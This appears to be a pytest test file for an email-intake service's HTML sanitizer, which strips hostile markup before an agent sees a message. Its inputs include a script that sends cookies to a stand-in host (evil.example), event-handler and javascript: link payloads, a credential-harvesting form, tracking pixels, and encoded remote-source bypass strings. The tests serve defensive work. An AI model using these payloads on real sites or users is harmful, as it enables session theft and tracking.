"""sanitize_html(): what may reach an agent's browser; html_to_text(): what an agent reads."""
import pytest

from services.intake_email.htmltext import html_to_text, sanitize_html


@pytest.mark.parametrize("markup, expected", [
    ("<p>Hi<script>document.location='https://evil.example/?c='+document.cookie</script></p>", "<p>Hi</p>"),
    ("<img src=\"cid:logo@shop\" onerror=\"alert(1)\" alt=\"logo\">", '<img src="cid:logo@shop" alt="logo">'),
    ("<p onclick=\"steal()\" onmouseover=\"x()\">text</p>", "<p>text</p>"),
    ("<a href=\"javascript:alert(1)\">click</a>", '<a rel="noopener noreferrer">click</a>'),
    ("<a href=\"JaVaScRiPt:alert(1)\">click</a>", '<a rel="noopener noreferrer">click</a>'),
    ("<a href=\"https://example.com/t/1\" target=\"_self\">ticket</a>",
     '<a href="https://example.com/t/1" rel="noopener noreferrer">ticket</a>'),
    ("<a href=\"mailto:help@example.com\">mail us</a>", '<a href="mailto:help@example.com" rel="noopener noreferrer">mail us</a>'),
    ("<img src=\"https://track.example/open.gif?id=42\" width=\"1\">", '<img width="1">'),
    ("<img src=\"http://track.example/open.gif\">", "<img>"),
    ("<img src=\"//track.example/open.gif\">", "<img>"),
    ("<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">", "<img>"),
    ("<style>body{background:url(https://track.example/b.gif)}</style><p>x</p>", "<p>x</p>"),
    ("<p style=\"color:red;background-image:url(https://track.example/b.gif);font-weight:bold\">x</p>",
     '<p style="color:red;font-weight:bold">x</p>'),
    ("<iframe src=\"https://evil.example\"></iframe><object data=\"x.swf\"></object>ok", "ok"),
    ("<form action=\"https://evil.example\"><input name=\"password\"></form>ok", "ok"),
    ("<html><head><title>Re: order</title><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"></head>"
     "<body><table><tr><td>cell</td></tr></table></body></html>",
     "<table><tbody><tr><td>cell</td></tr></tbody></table>"),
    ("<font color=\"red\" face=\"Arial\">old school</font>", '<font color="red" face="Arial">old school</font>'),
    ("<p>unclosed <b>bold", "<p>unclosed <b>bold</b></p>"),
])
def test_sanitize_html(markup, expected):
    assert sanitize_html(markup) == expected


def test_remote_images_only_when_allowed():
    markup = '<img src="https://cdn.example/logo.png"><img src="cid:a@b"><a href="javascript:x()">y</a>'
    assert sanitize_html(markup, allow_remote_images=True) == (
        '<img src="https://cdn.example/logo.png"><img src="cid:a@b"><a rel="noopener noreferrer">y</a>')
    assert sanitize_html(markup) == '<img><img src="cid:a@b"><a rel="noopener noreferrer">y</a>'


@pytest.mark.parametrize("markup, expected", [
    ("<div>Thanks!</div><div class=\"gmail_quote\">On Tue, Jan 2, 2024 at 10:00 AM Support wrote:<br>"
     "<blockquote>Please restart.<br>Support<blockquote>older</blockquote></blockquote></div>",
     "Thanks!\n\nOn Tue, Jan 2, 2024 at 10:00 AM Support wrote:\n\n> Please restart.\n> Support\n>> older"),
    ("<p>a</p><p>b</p>", "a\n\nb"),
    ("<blockquote><pre>line one\nline two</pre></blockquote>", "> line one\n> line two"),
    ("<ul><li>one</li><li>two</li></ul>", "- one\n- two"),
])
def test_html_to_text_keeps_structure_and_marks_quotes(markup, expected):
    assert html_to_text(markup) == expected


# Every form a browser would fetch from another host (or a local file/other scheme).
REMOTE_IMAGE_SOURCES = [
    "/\t.example/x", "/\n/track.example/x", "\\\\track.example\\x", "\\/track.example/x", "/\\track.example/x",
    "&#47;&#47;track.example/x", "&#x2F;&#x2F;track.example/x", "HTTP://track.example/x", "HtTpS://track.example/x",
    " \t//track.example/x", "\x01//track.example/x", "&#9;//track.example/x", "ftp://track.example/x",
    "file:///etc/passwd", "track.example/x.gif", "data:image/png;base64,AAAA", "cid\t://track.example",
]


@pytest.mark.parametrize("src", REMOTE_IMAGE_SOURCES)
def test_no_remote_image_form_survives(src):
    assert sanitize_html(f'<img src="{src}" alt="a">') == '<img alt="a">'


@pytest.mark.parametrize("src", [s for s in REMOTE_IMAGE_SOURCES if not s.lower().lstrip(" \t\x01").startswith("http")])
def test_allowing_remote_images_allows_only_http_and_https(src):
    assert sanitize_html(f'<img src="{src}" alt="a">', allow_remote_images=True) == '<img alt="a">'


@pytest.mark.parametrize("src", ["cid:logo@shop", "CID:logo@shop", " cid:logo@shop"])
def test_cid_images_stay(src):
    assert 'src="' in sanitize_html(f'<img src="{src}">')
